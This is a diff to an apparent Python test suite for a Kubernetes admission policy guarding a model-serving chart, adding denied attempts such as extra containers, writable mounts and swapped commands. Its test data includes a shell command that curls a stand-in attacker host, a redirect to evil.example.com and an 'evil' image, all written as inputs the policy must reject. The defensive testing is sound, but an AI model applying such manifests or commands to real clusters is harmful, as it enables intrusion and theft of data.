@@ -82,6 +82,7 @@ def models(site: Site) -> Iterator[tuple[Site, dict[str, Json]]]:
     # The API server enforces new policies within a moment.
     unmarked = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": NAME}}
     eventually(lambda: thief.apply(unmarked, dry=True).startswith("403 "))
+    site.put("iris/v1/requirements.txt", b"pandas\n")
     site.put("iris/v1/model.joblib")
     paths = {
         kind: f"/{group}/namespaces/{thief.namespace}/{plural}/iris-model-serving"
@@ -160,6 +161,25 @@ REDIRECT = {
     "filters": [{"type": "RequestRedirect", "requestRedirect": {"hostname": "evil.example.com"}}],
 }
 BACKEND = {"service": {"name": "payroll", "port": {"number": 80}}}
+
+
+def first_init(found: Json) -> Json:
+    return found["initContainers"][0]
+
+
+def install(change: Change) -> tuple[str, Change]:
+    return pod(lambda spec: change(next(item for item in spec["initContainers"] if item["name"] == "install")))
+
+
+def give_urls(found: Json) -> None:
+    urls = next(item for item in first_init(found)["env"] if item["name"] == "KUBESERVE_URLS")
+    found["containers"][0]["env"].append(urls)
+
+
+def writable(name: str, found: Json) -> None:
+    next(item for item in found["volumeMounts"] if item["name"] == name).pop("readOnly")
+
+
 ATTEMPTS: dict[str, tuple[str, tuple[str, Change]]] = {
     "another image": ("only the images", container(lambda found: found.update(image="docker.io/evil"))),
     "another image in the init container": (
@@ -176,6 +196,32 @@ ATTEMPTS: dict[str, tuple[str, tuple[str, Change]]] = {
     "a projected token": ("emptyDir", volume({"projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}})),
     "a claim": ("emptyDir", volume({"persistentVolumeClaim": {"claimName": "payroll"}})),
     "a foreign ConfigMap as volume": ("emptyDir", volume({"configMap": {"name": "payroll"}})),
+    "the URLs as a volume": ("certificates", volume({"configMap": {"name": NAME}})),
+    "one of the URLs as a volume": (
+        "certificates",
+        volume({"configMap": {"name": NAME, "items": [{"key": "urls-0", "path": "urls"}]}}),
+    ),
+    "a fourth container": (
+        "download-model, install and inference-server alone",
+        pod(lambda found: found["initContainers"].append({**first_init(found), "name": "another"})),
+    ),
+    "a container beside the server": (
+        "download-model, install and inference-server alone",
+        pod(lambda found: found["containers"].append({**found["containers"][0], "name": "install2", "ports": []})),
+    ),
+    "another program that downloads": (
+        "the programs of the chart",
+        pod(lambda found: first_init(found).update(command=["python", "-m", "http.server"])),
+    ),
+    "another program that installs": (
+        "the programs of the chart",
+        install(lambda found: found.update(command=["sh", "-c", "curl http://evil.example"])),
+    ),
+    "the program of the image": ("the programs of the chart", install(lambda found: found.pop("command"))),
+    "the URLs in the server": ("only download-model reads", pod(give_urls)),
+    "a server that writes its model": ("only download-model writes", container(partial(writable, "model"))),
+    "a server that writes its packages": ("only install its packages", container(partial(writable, "packages"))),
+    "packages written into the model": ("only download-model writes", install(partial(writable, "model"))),
     "secretKeyRef": ("no Secret", variable({"secretKeyRef": SECRET})),
     "configMapKeyRef": ("no Secret", variable({"configMapKeyRef": SECRET})),
     "envFrom": ("no Secret", container(lambda found: found.update(envFrom=[{"secretRef": {"name": "payroll"}}]))),
